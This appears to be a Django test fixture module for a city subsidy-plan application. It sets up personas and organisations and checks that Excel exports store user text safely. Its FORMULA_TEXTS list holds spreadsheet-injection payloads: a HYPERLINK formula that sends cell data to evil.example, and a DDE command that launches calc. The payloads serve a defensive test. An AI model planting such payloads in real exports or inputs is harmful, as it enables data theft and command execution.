"""Shared test set-up: the plan and reference data, and the personas every view is tested with.

Data is created through the real services, as the application creates it.
"""

from __future__ import annotations

from dataclasses import dataclass
from pathlib import Path

from django.conf import settings
from django.test import Client

from ipcity.accounts.choices import Role
from ipcity.accounts.models import User
from ipcity.accounts.services import upsert_user
from ipcity.core.audit import Actor
from ipcity.core.models import Department, Region
from ipcity.core.services import load_reference_data
from ipcity.plans.models import Plan
from ipcity.plans.services import load_plan_file
from ipcity.registry.models import Organisation
from ipcity.registry.services import bind_user_to_organisation, upsert_organisation

PLAN_FILE = settings.DATA_DIR / "plans" / "yantai-2022-2024.yaml"
SEED_FILE = settings.BASE_DIR.parent / "shared" / "seed" / "000_e06214998f249aae.txt"
PASSWORD = "test-password-123"
SETUP = Actor.cli("测试数据准备")


def load_plan_for_tests(path: Path = PLAN_FILE) -> Plan:
    load_reference_data(actor=SETUP)
    load_plan_file(path, actor=SETUP)
    return Plan.objects.get()


@dataclass
class Personas:
    """City admin, two district officers, a department liaison, two enterprises, an agency."""

    admin: User
    district_a: User
    district_b: User
    liaison: User
    liaison_other: User
    enterprise_a: User
    enterprise_b: User
    agency: User
    org_a: Organisation
    org_b: Organisation
    org_agency: Organisation

    def client(self, user: User | None) -> Client:
        client = Client()
        if user is not None:
            client.force_login(user)
        return client


def make_personas() -> Personas:
    """Requires reference data (departments, regions) to be loaded."""
    zhifu = Region.objects.get(name="芝罘区")
    laishan = Region.objects.get(name="莱山区")
    finance = Department.objects.get(name="市财政局")
    court = Department.objects.get(name="市法院")

    def user(username: str, role: str, **kwargs: object) -> User:
        u, _ = upsert_user(username, actor=SETUP, role=role, password=PASSWORD, **kwargs)  # type: ignore[arg-type]
        return u

    def org(name: str, uscc: str, kind: str, region: Region) -> Organisation:
        o, _ = upsert_organisation(
            actor=SETUP, name=name, values={"uscc": uscc, "kind": kind, "region": region}
        )
        return o

    org_a = org("测试甲公司", "91370602MADEM0001X", "enterprise", zhifu)
    org_b = org("测试乙公司", "91370613MADEM0002Y", "enterprise", laishan)
    org_agency = org("测试代理所", "91370600MADEM0004A", "service_agency", zhifu)
    personas = Personas(
        admin=user("t-admin", Role.CITY_ADMIN, is_staff=True),
        district_a=user("t-zhifu", Role.DISTRICT_OFFICER, region=zhifu),
        district_b=user("t-laishan", Role.DISTRICT_OFFICER, region=laishan),
        liaison=user("t-finance", Role.DEPT_LIAISON, department=finance),
        liaison_other=user("t-court", Role.DEPT_LIAISON, department=court),
        enterprise_a=user("t-ent-a", Role.APPLICANT),
        enterprise_b=user("t-ent-b", Role.APPLICANT),
        agency=user("t-agency", Role.AGENCY),
        org_a=org_a,
        org_b=org_b,
        org_agency=org_agency,
    )
    bind_user_to_organisation(personas.enterprise_a, org_a, actor=SETUP)
    bind_user_to_organisation(personas.enterprise_b, org_b, actor=SETUP)
    bind_user_to_organisation(personas.agency, org_agency, actor=SETUP)
    return personas


# --- Excel exports ---------------------------------------------------------------------------------

# Text a user can type that spreadsheets would run as formulas if an export wrote it as one.
FORMULA_TEXTS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")',
    "=1+1",
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "=cmd|' /C calc'!A0",
    "#N/A",
]


def assert_text_cells(content: bytes, expected: list[str]) -> None:
    """The workbook holds no formula at all, and each expected text is in a text cell, unchanged."""
    import io
    import zipfile

    from openpyxl import load_workbook

    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                xml = archive.read(name)
                assert b"<f>" not in xml and b"<f " not in xml, f"formula element in {name}"
    cells = {}
    for ws in load_workbook(io.BytesIO(content)).worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    cells[cell.value] = cell
    for text in expected:
        assert text in cells, f"{text!r} not found as a cell value"
        assert cells[text].data_type == "s", f"{text!r} is stored as {cells[text].data_type!r}, not text"
